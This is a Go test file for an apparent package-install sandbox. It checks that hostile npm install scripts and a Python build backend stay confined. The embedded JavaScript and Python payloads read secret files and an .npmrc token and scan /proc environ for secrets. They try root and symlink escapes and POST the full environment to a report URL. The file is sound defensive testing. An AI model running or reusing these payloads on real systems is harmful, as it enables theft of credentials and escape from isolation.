package runner

import (
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dormouse-mcp/dormouse/shared/box/provision"
	"github.com/dormouse-mcp/dormouse/shared/core/commontest"
)

// These tests install hostile packages, which do harm in install scripts and builds. What npm and
// uv do with the names of a package's files is theirs.

// canary is the data that a package must neither read nor change.
type canary struct {
	dir    string
	secret string // it is in the environment of the runner, and in a file
	unix   string // a socket that the runner's user serves
}

func newCanary(t *testing.T, root string) canary {
	t.Helper()
	c := canary{dir: filepath.Join(root, "outside"), secret: "canary-5e19f0"}
	for name, text := range map[string]string{"secret": c.secret, "everybodys": c.secret, "home/.npmrc": "//example/:_authToken=" + c.secret} {
		file := filepath.Join(c.dir, name)
		commontest.OK(t, os.MkdirAll(filepath.Dir(file), 0o755))
		commontest.OK(t, os.WriteFile(file, []byte(text), 0o644))
	}
	commontest.OK(t, os.Chmod(filepath.Join(c.dir, "secret"), 0o600))
	t.Setenv("DORMOUSE_TICKET_SECRET", c.secret)
	t.Setenv("npm_config_//registry.example/:_authToken", c.secret)
	t.Setenv("PIP_EXTRA_INDEX_URL", "")
	c.unix = filepath.Join(c.dir, "s")
	l, err := (&net.ListenConfig{}).Listen(t.Context(), "unix", c.unix)
	commontest.OK(t, err)
	t.Cleanup(func() { _ = l.Close() })
	return c
}

// see describes everything outside of installs, so that a test can compare it.
func (c canary) see(t *testing.T) string {
	t.Helper()
	var all strings.Builder
	err := filepath.WalkDir(c.dir, func(path string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := e.Info()
		if err != nil {
			return err
		}
		fmt.Fprintln(&all, path, info.Mode(), info.Size())
		if e.Type().IsRegular() {
			text, err := os.ReadFile(path)
			fmt.Fprintln(&all, string(text), err)
		}
		return nil
	})
	commontest.OK(t, err)
	return all.String()
}

// inNode returns an install script that tries everything and reports. Landlock cannot
// forbid a change of modes. So the script does not try that if it runs as the runner's
// user.
func (c canary) inNode(reportTo string) string {
	return `
const fs = require('fs'), http = require('http'), net = require('net'), path = require('path');
const out = {tried: 0, did: [], env: JSON.stringify(process.env), uid: process.getuid()};
const attempt = (what, f) => { out.tried++; try { f(); out.did.push(what) } catch {} };
for (const file of ['secret', 'everybodys', 'home/.npmrc']) attempt('read ' + file, () => fs.readFileSync(path.join('` + c.dir + `', file)));
for (const file of ['new', 'everybodys', 's']) attempt('wrote ' + file, () => fs.writeFileSync(path.join('` + c.dir + `', file), 'x'));
attempt('listed', () => fs.readdirSync('` + c.dir + `'));
attempt('linked', () => fs.linkSync('` + c.dir + `/everybodys', 'taken'));
attempt('renamed', () => fs.renameSync('` + c.dir + `/everybodys', 'taken'));
if (out.uid) attempt('changed a mode', () => fs.chmodSync('` + c.dir + `/everybodys', 0o777));
attempt('wrote to /tmp', () => fs.writeFileSync('/tmp/dormouse-hostile', 'x'));
for (const pid of [process.ppid, 1]) attempt('environ of ' + pid, () => { if (fs.readFileSync('/proc/' + pid + '/environ', 'latin1').includes('` + c.secret + `')) return; throw 0 });
for (const pid of fs.readdirSync('/proc').filter(n => /^[0-9]+$/.test(n))) attempt('environ with the secret', () => { if (fs.readFileSync('/proc/' + pid + '/environ', 'latin1').includes('` + c.secret + `')) return; throw 0 });
attempt('became root', () => { process.setuid(0); if (out.uid === 0) throw 0 });
try { fs.symlinkSync('` + c.dir + `/everybodys', 'out'); fs.symlinkSync('` + c.dir + `', path.join(__dirname, '..', '.bin', 'outside')); } catch {}
try { fs.unlinkSync(path.join(__dirname, '..', '.bin', 'evil')); fs.symlinkSync('` + c.dir + `/everybodys', path.join(__dirname, '..', '.bin', 'evil')); } catch {}
fs.writeFileSync('made', 'by a script');
const s = net.connect('` + c.unix + `');
out.tried++;
const done = what => { if (what) out.did.push(what); const q = http.request('` + reportTo + `', {method: 'POST'}, r => r.resume()); q.end(JSON.stringify(out)); };
s.on('connect', () => { done('reached a unix socket'); s.destroy() });
s.on('error', () => done());
`
}

// inPython returns the build backend of a source distribution.
func (c canary) inPython(project, reportTo string) string {
	return `
import json, os, socket, urllib.request, zipfile
out = {"tried": 0, "did": [], "env": json.dumps(dict(os.environ)), "uid": os.getuid()}
def attempt(what, f):
    out["tried"] += 1
    try:
        f()
    except BaseException:
        return
    out["did"].append(what)
D = "` + c.dir + `"
for name in ("secret", "everybodys", "home/.npmrc"):
    attempt("read " + name, lambda: open(os.path.join(D, name)).read())
for name in ("new", "everybodys", "s", "/tmp/dormouse-hostile"):
    attempt("wrote " + name, lambda: open(os.path.join(D, name), "w").write("x"))
def environ(pid):
    assert b"` + c.secret + `" in open("/proc/%s/environ" % pid, "rb").read()
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    attempt("environ with the secret", lambda: environ(pid))
attempt("reached a unix socket", lambda: socket.socket(socket.AF_UNIX).connect("` + c.unix + `"))
urllib.request.urlopen("` + reportTo + `", json.dumps(out).encode())
INFO = "` + project + `-1.0.dist-info/"
def files(z):
    z.writestr(INFO + "METADATA", "Metadata-Version: 2.1\nName: ` + project + `\nVersion: 1.0\n")
    z.writestr(INFO + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr(INFO + "entry_points.txt", "[console_scripts]\n` + project + ` = ` + project + `:main\n")
    z.writestr("` + project + `.py", "def main(): print('built')\n")
    z.writestr(INFO + "RECORD", "")
def build_wheel(folder, settings=None, metadata=None):
    name = "` + project + `-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as z:
        files(z)
    return name
`
}

// sdist returns a source distribution with its own build backend.
func (c canary) sdist(t *testing.T, project, reportTo string) []byte {
	t.Helper()
	top := project + "-1.0/"
	return tarball(t,
		file(top+"PKG-INFO", "Metadata-Version: 2.1\nName: "+project+"\nVersion: 1.0\n"),
		file(top+"pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n"),
		file(top+"backend.py", c.inPython(project, reportTo)),
	)
}

// leadsOut finds links of an install that lead out of it. Links to an interpreter may do
// so.
func leadsOut(t *testing.T, dir string) (out []string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, e fs.DirEntry, err error) error {
		if err != nil || e.Type() != fs.ModeSymlink {
			return err
		}
		real, err := filepath.EvalSymlinks(path)
		if err != nil || !strings.HasPrefix(real, dir+"/") && !strings.HasPrefix(real, "/usr/bin/python3") {
			out = append(out, path+" -> "+real)
		}
		return nil
	})
	commontest.OK(t, err)
	return out
}

// count is what a test has tried.
type count struct{ scripts, attempts int }

// judge checks the files that an install has left, and the reports of its code.
func (n *count) judge(t *testing.T, i *installs, c canary, before string, l provision.Launch, failed error) []report {
	t.Helper()
	commontest.EqualIn(t, "something is changed outside of the install", before, c.see(t))
	if _, err := os.Lstat("/tmp/dormouse-hostile"); err == nil {
		t.Error("something was written to /tmp")
		_ = os.Remove("/tmp/dormouse-hostile")
	}
	for _, dir := range l.Reads {
		if out := leadsOut(t, dir); len(out) > 0 {
			t.Errorf("links lead out of the install: %v", out)
		}
	}
	if failed == nil {
		if real, err := filepath.EvalSymlinks(l.Command); err != nil || !strings.HasPrefix(real, l.Reads[0]+"/") {
			t.Errorf("the program is %s, %s, %v", l.Command, real, err)
		}
	}
	said := i.from.said()
	for _, r := range said {
		n.scripts++
		n.attempts += r.Tried
		if len(r.Did) > 0 {
			t.Errorf("user %d: code of a package %v", r.UID, r.Did)
		}
		commontest.EqualIn(t, "code of a package saw a secret in its environment", false, strings.Contains(r.Env, c.secret))
		if i.on.Users > 0 && r.UID == os.Getuid() {
			t.Error("code of a package has the user of the runner")
		}
	}
	return said
}

func TestHostilePackagesStayInTheirInstall(t *testing.T) {
	for _, own := range []bool{true, false} {
		if own && os.Getuid() != 0 {
			continue // this machine has no such user
		}
		t.Run(fmt.Sprintf("user of its own %v", own), func(t *testing.T) {
			i := newInstalls(t, newRegistry(t))
			if !own {
				i.on.Users = 0
				i.at.on.Users = 0
			}
			c := newCanary(t, i.root)
			n := &count{}
			hostileScripts(t, i, c, n)
			hostileBuilds(t, i, c, n)
			t.Logf("%d packages ran code of theirs with %d attempts: none read or wrote outside", n.scripts, n.attempts)
			if n.scripts < 2 || n.attempts < 20 {
				t.Error("too little was tried")
			}
		})
	}
}

const (
	offline  = `"x-dormouse": {"box": {"profile": "offline_readonly"}}`
	scripted = `"x-dormouse": {"box": {"profile": "offline_readonly", "install_scripts": true}}`
)

func npx(name, more string) string {
	return fmt.Sprintf(`{"command": "npx", "args": ["-y", %q], %s}`, name, more)
}

func uvx(name, more string) string {
	return fmt.Sprintf(`{"command": "uvx", "args": [%q], %s}`, name, more)
}

func hostileScripts(t *testing.T, i *installs, c canary, n *count) {
	t.Helper()
	from, before := i.from, c.see(t)
	script := file("package/steal.js", c.inNode(from.http.URL+"/report"))
	program := file("package/cli.js", "#!/usr/bin/env node\n")
	from.publish("evil", "1.0.0", map[string]any{"bin": "cli.js", "scripts": map[string]string{"preinstall": "node steal.js", "postinstall": "node steal.js"}}, script, program)
	from.publish("above", "1.0.0", map[string]any{"bin": "cli.js", "dependencies": map[string]string{"evil": "*"}}, program)

	l, err := i.stage(npx("above", offline))
	commontest.OK(t, err)
	if said := n.judge(t, i, c, before, l, err); len(said) > 0 || len(l.Unrun) != 1 || l.Unrun[0] != "evil" {
		t.Errorf("%d scripts were run, not run are %v", len(said), l.Unrun)
	}
	l, err = i.stage(npx("above", scripted))
	commontest.OK(t, err)
	commontest.Equal(t, 2, len(n.judge(t, i, c, before, l, err)))
	commontest.Equal(t, 0, len(l.Unrun))
	if _, err := os.Stat(filepath.Join(l.Reads[0], "node_modules/evil/made")); err != nil {
		t.Error("what a script makes is not there:", err)
	}
	if info, err := os.Stat(filepath.Join(l.Reads[0], "node_modules/evil/cli.js")); err != nil || info.Mode().Perm() != 0o755 {
		t.Error("others cannot execute it:", info, err)
	}
}

func hostileBuilds(t *testing.T, i *installs, c canary, n *count) {
	t.Helper()
	from, before := i.from, c.see(t)
	report := from.http.URL + "/report"
	from.index("evilpy", "evilpy-1.0.tar.gz", c.sdist(t, "evilpy", report))
	l, err := i.stage(uvx("evilpy", offline))
	if err == nil || !strings.Contains(err.Error(), "x-dormouse.box.install_scripts: true") {
		t.Errorf("it does not say what to do: %v", err)
	}
	if said := n.judge(t, i, c, before, l, err); len(said) > 0 {
		t.Error("a package was built")
	}
	l, err = i.stage(uvx("evilpy", scripted))
	commontest.OK(t, err)
	if said := n.judge(t, i, c, before, l, err); len(said) == 0 {
		t.Error("no package was built")
	}

	// A package may also name a dependency by its address. uv takes only those that the
	// server names itself.
	from.mu.Lock()
	from.files["elsewhere/hidden-1.0.tar.gz"] = c.sdist(t, "hidden", report)
	from.mu.Unlock()
	from.index("pointer", "pointer-1.0-py3-none-any.whl", wheel(t, "pointer", "1.0", []string{"hidden @ " + from.http.URL + "/elsewhere/hidden-1.0.tar.gz"}, nil))
	l, err = i.stage(uvx("pointer", offline))
	if err == nil || !strings.Contains(err.Error(), "hidden") {
		t.Errorf("it does not say why: %v", err)
	}
	if said := n.judge(t, i, c, before, l, err); len(said) > 0 {
		t.Error("a package was built")
	}
}
